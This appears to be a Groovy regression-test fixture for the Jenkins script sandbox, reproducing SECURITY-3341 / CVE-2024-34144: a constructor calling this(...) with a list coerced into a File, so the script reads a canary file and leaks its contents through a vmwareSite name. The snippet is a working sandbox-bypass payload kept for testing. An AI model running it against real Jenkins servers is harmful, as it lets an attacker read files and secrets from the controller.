// class: constructor
// source: Jenkins SECURITY-3341 / CVE-2024-34144 (casts in this(...) constructor calls)
// expect: read
class Sub {
    def x
    Sub() { this(['@CANARY_READ@']) }
    Sub(File f) { this.x = f }
}
def v = new Sub().x.text
vmwareSite("leak-${v}") { network 'VM Network' }
